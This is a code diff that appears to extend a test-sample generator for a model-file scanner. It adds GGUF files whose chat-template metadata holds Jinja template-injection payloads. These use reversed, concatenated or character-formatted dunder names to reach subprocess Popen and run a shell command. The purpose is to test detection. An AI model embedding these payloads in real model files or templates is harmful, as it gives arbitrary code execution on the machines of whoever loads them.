@@ -338,6 +338,29 @@ TEMPLATE_ATTACKS = {
     ".system('%s') }}",
 }
 
+# Outside a sandbox, x["name"] falls back to getattr(x, "name"): keys computed from
+# strings reach dunders without a dunder anywhere in the template text.
+_POPEN_LOOP = (
+    "{% for c in ()[K1][K2][K3]() %}{% if c[K4] == 'nepoP'|reverse %}"
+    "{{ c('%s', shell=True) }}{% endif %}{% endfor %}"
+)
+COMPUTED_NAME_ATTACKS = {
+    "reverse": _POPEN_LOOP.replace("K1", '"__ssalc__"|reverse')
+    .replace("K2", '"__esab__"|reverse')
+    .replace("K3", '"__sessalcbus__"|reverse')
+    .replace("K4", '"__eman__"|reverse'),
+    "concat": _POPEN_LOOP.replace("K1", '"_"~"_"~"class"~"_"~"_"')
+    .replace("K2", '"_"~"_"~"base"~"_"~"_"')
+    .replace("K3", '"_"~"_"~"subclasses"~"_"~"_"')
+    .replace("K4", '"_"~"_"~"name"~"_"~"_"'),
+    "format_chars": _POPEN_LOOP.replace("K1", '"%c%cclass%c%c"|format(95, 95, 95, 95)')
+    .replace("K2", '"%c%cbase%c%c"|format(95, 95, 95, 95)')
+    .replace("K3", '"%c%csubclasses%c%c"|format(95, 95, 95, 95)')
+    .replace("K4", '"%c%cname%c%c"|format(95, 95, 95, 95)'),
+    "keyword_names": "{% set k = dict(__class__=1)|first %}{% set b = dict(__base__=1)|first %}"
+    "{% set s = dict(__subclasses__=1)|first %}{{ ()[k][b][s]() }}{# %s #}",
+}
+
 CHATML = (
     "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
     "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
@@ -368,6 +391,17 @@ def _gguf(w: Writer) -> None:
             fmt="gguf",
             note=f"chat template SSTI: {stem}",
         )
+    t = "gguf-jinja-computed-names"
+    for stem, attack in COMPUTED_NAME_ATTACKS.items():
+        template = CHATML + attack.replace("%s", w.command(t))
+        w.bad(
+            f"gguf/computed_{stem}.gguf",
+            gguf_file(gguf_metadata(template)),
+            technique=t,
+            fmt="gguf",
+            note=f"chat template SSTI with subscript keys built at render time: {stem}",
+        )
+    t = "gguf-jinja-template"
     named = gguf_metadata(CHATML)
     named["tokenizer.chat_template.tool_use"] = TEMPLATE_ATTACKS["cycler_globals"] % "true"
     w.bad(
